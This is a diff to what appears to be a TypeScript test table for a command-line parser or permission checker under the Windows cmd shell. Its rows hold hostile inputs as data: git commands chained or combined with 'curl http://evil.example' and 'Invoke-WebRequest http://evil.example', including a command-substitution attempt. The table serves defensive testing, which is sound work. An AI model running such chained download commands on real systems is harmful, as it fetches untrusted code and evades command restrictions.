@@ -10,7 +10,8 @@ const CMD_ENV = { ...WINDOWS, shell: "cmd" as const };
 
 const CMD: Row[] = [
   ["git status & curl http://evil.example -o x", ["git status","curl http://evil.example -o x"], ["1:w C:\\work\\proj\\x","1:u http://evil.example"]],
-  ["git log $(curl http://evil.example)", ["git log $(curl http://evil.example)"], []],
+  // cmd has no substitution: git is given two literal words, each read as a path.
+  ["git log $(curl http://evil.example)", ["git log $(curl http://evil.example)"], ["r C:\\work\\proj\\$(curl","r C:\\work\\proj\\http://evil.example)"]],
   ["\"git\" status; Invoke-WebRequest http://evil.example", ["git status; Invoke-WebRequest http://evil.example #config_overrides"], []],
   ["git status", ["git status"], []],
   ["git diff --stat", ["git diff --stat"], []],
